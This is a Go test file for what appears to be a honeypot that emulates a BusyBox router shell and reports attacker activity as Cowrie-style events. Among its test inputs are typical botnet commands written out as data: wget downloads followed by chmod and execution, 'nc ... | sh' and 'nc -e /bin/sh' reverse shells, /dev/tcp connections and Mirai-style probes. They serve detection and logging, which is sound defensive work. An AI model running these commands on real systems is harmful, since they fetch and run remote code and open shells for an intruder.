package shell

import (
	"strings"
	"testing"
)

// TestLines: what is typed at a router, and what it answers. Checked against
// BusyBox 1.35's ash where both have the command.
func TestLines(t *testing.T) {
	for _, c := range []struct{ line, want string }{
		// What is wrong.
		{`foo`, "-sh: foo: not found\n"},
		{`./foo`, "-sh: ./foo: not found\n"},
		{`/tmp`, "-sh: /tmp: Permission denied\n"},
		{`foo; echo $?`, "-sh: foo: not found\n127\n"},
		{`/etc/passwd; echo $?`, "-sh: /etc/passwd: Permission denied\n126\n"},
		{`echo )`, "-sh: syntax error: unexpected \")\"\n"},
		{`;;`, "-sh: syntax error: unexpected \";;\"\n"},
		{`| cat`, "-sh: syntax error: unexpected \"|\"\n"},
		{`if; then`, "-sh: syntax error: unexpected \";\"\n"},
		{`fi`, "-sh: syntax error: unexpected \"fi\"\n"},
		{`echo a > /nowhere/x`, "-sh: can't create /nowhere/x: nonexistent directory\n"},
		{`echo a > /bin/x`, "-sh: can't create /bin/x: Read-only file system\n"},
		{`echo a > /tmp`, "-sh: can't create /tmp: Is a directory\n"},
		{`cat < /nowhere`, "-sh: can't open /nowhere: no such file\n"},
		{`cat /nowhere`, "cat: /nowhere: No such file or directory\n"},
		{`cd /nowhere`, "-sh: cd: can't cd to /nowhere\n"},
		{`cd /etc/passwd`, "-sh: cd: can't cd to /etc/passwd\n"},
		{`chmod 777 x`, "chmod: x: No such file or directory\n"},
		{`chmod rwx /tmp`, "chmod: invalid mode 'rwx'\n"},
		{`cp a b`, "cp: can't stat 'a': No such file or directory\n"},
		{`mv a b`, "mv: can't rename 'a': No such file or directory\n"},
		{`rm a`, "rm: can't remove 'a': No such file or directory\n"},
		{`rm /bin/sh`, "rm: can't remove '/bin/sh': Read-only file system\n"},
		{`mkdir /tmp`, "mkdir: can't create directory '/tmp': File exists\n"},
		{`rmdir /etc`, "rmdir: '/etc': Directory not empty\n"},
		{`kill 99999`, "-sh: can't kill pid 99999: No such process\n"},
		{`killall nothing`, "killall: nothing: no process killed\n"},
		{`echo $((1/0))`, "-sh: arithmetic syntax error\n0\n"},
		{`read 1x < /etc/hosts`, "-sh: read: '1x': bad variable name\n"},
		{`[ 1 -eq x ]`, "-sh: x: bad number\n"},
		{`[ a`, "[: missing ]\n"},
		{`/bin/busybox MIRAI`, "MIRAI: applet not found\n"},
		{`ln -s l1 /tmp/l1; ln -s l1 /tmp/l2; cat /tmp/l1`, "cat: /tmp/l1: Too many levels of symbolic links\n"},
		{`sh -c`, "sh: -c: option requires an argument\n"},
		{`wget`, "BusyBox v1.01 (2015.03.10-01:53+0000) multi-call binary.\n\nUsage: wget [-cqS] [-O FILE] [--header STR] [--post-data STR] [-P DIR] [-U AGENT] URL...\n\n"},
		{`su -c 'echo in'`, "-sh: su: not found\n"},

		{`case a in [[:]) echo;; esac; echo a | tr '[:]' x; echo a | grep '[[:]'`, "a\n"},

		// Words.
		{`echo a  b 'c  d' "e  f"`, "a b c  d e  f\n"},
		{`echo "$HOME" '$HOME' \$HOME ~`, "/root $HOME $HOME /root\n"},
		{`x='a b'; for i in $x; do echo [$i]; done; for i in "$x"; do echo [$i]; done`, "[a]\n[b]\n[a b]\n"},
		{`echo ${y:-def} ${y:=set} $y ${y:+alt} ${#y}`, "def set set alt 3\n"},
		{`f=a.b.c; echo ${f%.*} ${f%%.*} ${f#*.} ${f##*.} ${f/b/X} ${f:2:1}`, "a.b a b.c c a.X.c b\n"},
		{`echo "${n:-"q u"}"`, "q u\n"},
		{`echo $((1+2*3)) $(((1+2)*3)) $((7%2)) $((2<<3)) $((1?2:3))`, "7 9 1 16 2\n"},
		{"echo `echo \\`echo deep\\``", "deep\n"},
		{`echo $(echo $(echo deep))`, "deep\n"},
		{`echo $'a\tb\x41\''`, "a\tbA'\n"},
		{`echo /etc/pass*`, "/etc/passwd\n"},
		{`echo /nowhere/*`, "/nowhere/*\n"},
		{`echo "/etc/pass*"`, "/etc/pass*\n"},
		{`echo a#b # c`, "a#b\n"},
		{`set -- a 'b c'; echo $#; for i in "$@"; do echo "<$i>"; done`, "2\n<a>\n<b c>\n"},
		{`IFS=:; x=a:b; for i in $x; do echo $i; done`, "a\nb\n"},

		// Commands in commands.
		{`true && echo a || echo b; false && echo a || echo b`, "a\nb\n"},
		{`if false; then echo a; elif true; then echo b; else echo c; fi`, "b\n"},
		{`i=0; while [ $i -lt 3 ]; do i=$((i+1)); [ $i = 2 ] && continue; echo $i; done`, "1\n3\n"},
		{`for i in 1 2 3; do for j in a b; do [ $i = 2 ] && break 2; echo $i$j; done; done`, "1a\n1b\n"},
		{`case mips in i?86|arm*) echo A;; m*) echo M;; esac`, "M\n"},
		{`f() { echo $1 $#; return 3; }; f a b; echo $?`, "a 2\n3\n"},
		{`(cd /; x=2; echo $x); echo "[$x]"; pwd`, "2\n[]\n/root\n"},
		{`{ echo a; echo b; } | tail -1`, "b\n"},
		{`! true; echo $?`, "1\n"},
		{`echo a | while read l; do echo "<$l>"; done`, "<a>\n"},
		{`x=1 sh -c 'echo $x'; echo "[$x]"`, "1\n[]\n"},
		{`sh -c 'exit 7'; echo $?`, "7\n"},
		{`eval 'echo ev'`, "ev\n"},
		{`echo a >/dev/null 2>&1; echo b >&2; nosuch 2>/dev/null; echo c &>/dev/null`, "b\n"},
		{`sleep 1 & echo $?`, "0\n"},

		// Files.
		{`cd /tmp; echo a > f; echo b >> f; cat f; wc -c < f; rm f; ls f`, "a\nb\n4\nls: f: No such file or directory\n"},
		{`cd /tmp; >.x && echo made; [ -f .x ] && [ ! -s .x ] && echo empty`, "made\nempty\n"},
		{`mkdir -p /tmp/a/b; echo x > /tmp/a/b/c; mv /tmp/a /tmp/d; cat /tmp/d/b/c; ls /tmp`, "x\nd\n"},
		{`cp /bin/busybox /tmp/b; /tmp/b ECCHI; ls -l /tmp/b | cut -c1-10`, "ECCHI: applet not found\n-rwxr-xr-x\n"},
		{`rm -rf /etc/rc.d; ls /etc/rc.d; mkdir /etc/rc.d; ls /etc/rc.d; rm -rf /etc`, "ls: /etc/rc.d: No such file or directory\nrm: can't remove '/etc': Read-only file system\n"},
		{`echo -ne '\x7fELF\001\0102' | dd bs=1 skip=1 count=3 2>/dev/null`, "ELF"},
		{`head -c 4 /bin/busybox | tr -d '\177'`, "ELF"},
		{`cat /dev/null; head -c 3 /dev/zero | wc -c`, "3\n"},
		{`cd /var/run; pwd; cd ..; pwd; cd - >/dev/null; pwd`, "/var/run\n/var\n/var/run\n"},

		// Texts.
		{`printf '%s-%d-%x|%5s|%-3s|%03d\n' a 10 255 r l 7`, "a-10-ff|    r|l  |007\n"},
		{`printf '\101\x42%b\n' '\0103'`, "ABC\n"},
		{`echo -e 'a\tb\c'; echo; echo -n x; echo -E 'y\n'`, "a\tb\nxy\\n\n"},
		{`echo 'a:b:c' | cut -d: -f2-; echo abc | tr a-c A-C | sed 's/B\(.\)/<\1>/'`, "b:c\nA<C>\n"},
		{`printf 'b 2\na 10\n' | sort -k2 -n; echo 'x  y z' | awk '{print $2","$NF}'`, "b 2\na 10\ny,z\n"},
		{`printf 'a\nb\n' | grep -v a; printf 'a1\n' | grep -c '[0-9]$'; echo x | grep -q y || echo no`, "b\n1\nno\n"},
		{`echo a b | xargs -n1 echo -`, "- a\n- b\n"},
		{`uname; uname -m; uname -s -r`, "Linux\nmips\nLinux 2.6.31--LSDK-9.2.0_U9.915\n"},
		{`whoami; id`, "root\nuid=0(root) gid=0(root)\n"},
		{`which wget; which curl || echo none`, "/usr/bin/wget\nnone\n"},
		{`wget -q http://198.51.100.1/x; echo $?`, "wget: can't connect to remote host (198.51.100.1): Connection timed out\n1\n"},
		{`tftp -g -r x 198.51.100.1`, "tftp: timeout\n"},
		{`date +%Y-%m-%d`, "2026-03-04\n"},
	} {
		s := open(t, "router")
		got := s.run(c.line)
		if got != c.want {
			t.Errorf("%s\n got %q\nwant %q", c.line, got, c.want)
		}
		s.Close()
		if s.fs.used != 0 {
			t.Errorf("%s: %d bytes are not given back", c.line, s.fs.used)
		}
	}
}

// TestUnfinished: what is open is held, and the prompt says so.
func TestUnfinished(t *testing.T) {
	for name, c := range map[string]struct {
		lines  []string
		want   string
		events int
	}{
		"here-document": {[]string{"cat <<E", "a", "b", "E"}, "a\nb\n", 1},
		"quoted":        {[]string{"cat <<'E'", "$x", "E"}, "$x\n", 1},
		"tabs":          {[]string{"cat <<-E", "\ta", "\tE"}, "a\n", 1},
		"two":           {[]string{"cat <<A; cat <<B", "1", "A", "2", "B"}, "1\n2\n", 1},
		"in a loop":     {[]string{"for i in 1 2; do", "cat <<E", "$i", "E", "done"}, "1\n2\n", 1},
		"quote":         {[]string{`echo "a`, `b"`}, "a\nb\n", 1},
		"backslash":     {[]string{`echo a \`, `b`}, "a b\n", 1},
		"if":            {[]string{"if true", "then", "echo x", "fi"}, "x\n", 1},
		"pipe":          {[]string{"echo x |", "cat"}, "x\n", 1},
		"and":           {[]string{"true &&", "", "echo x"}, "x\n", 1},
		"parenthesis":   {[]string{"(echo x", ")"}, "x\n", 1},
		"substitution":  {[]string{"echo $(echo x", ")"}, "x\n", 1},
		"function":      {[]string{"f() {", "echo x", "}", "f"}, "x\n", 2},
		"case":          {[]string{"case a in", "a) echo x;;", "esac"}, "x\n", 1},
	} {
		s := open(t, "router")
		for _, l := range c.lines[:1] {
			s.run(l)
			if s.Prompt() != "> " {
				t.Errorf("%s: prompt %q", name, s.Prompt())
			}
		}
		got := s.run(c.lines[1:]...)
		if got != c.want || s.Prompt() != "# " || len(s.told("command.input")) != c.events {
			t.Errorf("%s: %q, want %q; prompt %q, %q", name, got, c.want, s.Prompt(), s.events)
		}
	}
}

// TestStdin: commands that read get what the client sends.
func TestStdin(t *testing.T) {
	for name, c := range map[string]struct{ line, stdin, want string }{
		"cat":    {"cat > /tmp/f; cat /tmp/f", "a\nb\n", "a\nb\n"},
		"dd":     {"dd of=/tmp/f bs=1 2>/dev/null; wc -c < /tmp/f", "\x7fELF\x00", "5\n"},
		"read":   {"read a b; echo $b; read c; echo $c", "1 2 3\n4\n", "2 3\n4\n"},
		"while":  {"while read l; do echo \"<$l>\"; done", "a\nb", "<a>\n<b>\n"},
		"sh":     {"sh", "echo x; exit\n", "x\n"},
		"sh -s":  {"sh -s a", "echo y\n", "y\n"},
		"passwd": {"passwd", "p1\np1\n", "Changing password for root\nNew password: Retype password: passwd: password for root changed by root\n"},
	} {
		s := open(t, "router", func(cfg *Config) { cfg.Stdin = strings.NewReader(c.stdin) })
		s.out.Reset()
		s.Exec([]byte(c.line), &s.out, &s.out)
		if s.out.String() != c.want {
			t.Errorf("%s: %q, want %q", name, s.out.String(), c.want)
		}
	}
}

// TestNested: exit leaves one shell after the other.
func TestNested(t *testing.T) {
	s := open(t, "router")
	for _, c := range []struct {
		line string
		exit bool
	}{{"sh", false}, {"/bin/busybox sh", false}, {"exit", false}, {"(exit 3)", false}, {"sh -c exit", false}, {"exit 4", false}, {"exit 5", true}} {
		status, exit := s.Run([]byte(c.line), &s.out)
		if exit != c.exit {
			t.Errorf("%s: exit %v, status %d", c.line, exit, status)
		}
	}
	if s.status != 5 {
		t.Errorf("status %d", s.status)
	}
}

// TestEvents: what is told, in Cowrie's words.
func TestEvents(t *testing.T) {
	s := open(t, "router", func(c *Config) { c.Fake = true })
	s.run("nosuch x", "cd /tmp; wget -O a http://198.51.100.1/b; chmod +x a; ./a; echo d > d; rm d", "echo 'see ftp://198.51.100.2/c.'", "echo http://198.51.100.1/b",
		"curl http://198.51.100.9/z")
	s.Close()
	want := []string{
		`command.input input="nosuch x"`,
		`command.failed input="nosuch x"`,
		`command.input input="cd /tmp; wget -O a http://198.51.100.1/b; chmod +x a; ./a; echo d > d; rm d"`,
		`session.file_download url="http://198.51.100.1/b" found="command" command="wget" destfile="/tmp/a"`,
		`command.run filename="/tmp/a" input="./a" url="http://198.51.100.1/b"`,
		`session.file_upload filename="/tmp/d" shasum="8d74beec1be996322ad76813bafb92d40839895d6dd7ee808b17ca201eac98be" size=2 head="d\n" cause="removed"`,
		`command.input input="echo 'see ftp://198.51.100.2/c.'"`,
		`session.file_download url="ftp://198.51.100.2/c" found="text"`,
		`command.input input="echo http://198.51.100.1/b"`,
		`command.input input="curl http://198.51.100.9/z"`,
		`command.failed input="curl http://198.51.100.9/z"`,
		`session.file_download url="http://198.51.100.9/z" found="command" command="curl"`,
	}
	if len(s.events) != len(want) {
		t.Fatalf("%d events, want %d:\n%s", len(s.events), len(want), strings.Join(s.events, "\n"))
	}
	for i, w := range want {
		if got := s.events[i]; got != w {
			t.Errorf("got  %s\nwant %s", got, w)
		}
	}
}

// TestAddresses: all forms in which an address can stand.
func TestAddresses(t *testing.T) {
	for line, want := range map[string]string{
		`wget 198.51.100.1/a`:                                         "http://198.51.100.1/a",
		`wget -q -O /tmp/x http://198.51.100.1:8080/a?b=c`:            "http://198.51.100.1:8080/a?b=c",
		`wget --no-check-certificate -P /tmp https://h.example/a`:     "https://h.example/a",
		`busybox wget -O- http://198.51.100.1/a`:                      "http://198.51.100.1/a",
		`curl -fsSL -o x http://198.51.100.1/a`:                       "http://198.51.100.1/a",
		`curl -O http://198.51.100.1/a`:                               "http://198.51.100.1/a",
		`curl --output x --connect-timeout 5 198.51.100.1:81/a`:       "http://198.51.100.1:81/a",
		`tftp -g -r a 198.51.100.1`:                                   "tftp://198.51.100.1/a",
		`tftp -l b -r a -g 198.51.100.1 6969`:                         "tftp://198.51.100.1:6969/a",
		`tftp 198.51.100.1 -c get a`:                                  "tftp://198.51.100.1/a",
		`tftp -gr a 198.51.100.1; tftp -r a -g 198.51.100.1`:          "tftp://198.51.100.1/a",
		`ftpget 198.51.100.1 l r`:                                     "ftp://198.51.100.1/r",
		`ftpget -u a -p b -P 2121 198.51.100.1 l r`:                   "ftp://a:b@198.51.100.1:2121/r",
		`ftpput -u a 198.51.100.1 r l`:                                "ftp://a@198.51.100.1/r",
		`nc 198.51.100.1 99 | sh`:                                     "tcp://198.51.100.1:99",
		`nc -e /bin/sh 198.51.100.1 99`:                               "tcp://198.51.100.1:99",
		`telnet 198.51.100.1 99`:                                      "tcp://198.51.100.1:99",
		`cat < /dev/tcp/198.51.100.1/99`:                              "tcp://198.51.100.1:99",
		`echo "GET http://198.51.100.1/a HTTP/1.0"`:                   "http://198.51.100.1/a",
		`x=http://198.51.100.1/a; echo`:                               "http://198.51.100.1/a",
		`python -c "urllib.urlopen('https://198.51.100.1/a').read()"`: "https://198.51.100.1/a",
		`scp u@198.51.100.1:/a .`:                                     "",
	} {
		s := open(t, "router")
		s.run(line)
		if got := strings.Join(s.told("session.file_download"), "\n"); !strings.Contains(got, ` url="`+want) {
			if want != "" {
				t.Errorf("%s: %q, want %s", line, got, want)
			}
		}
	}
}
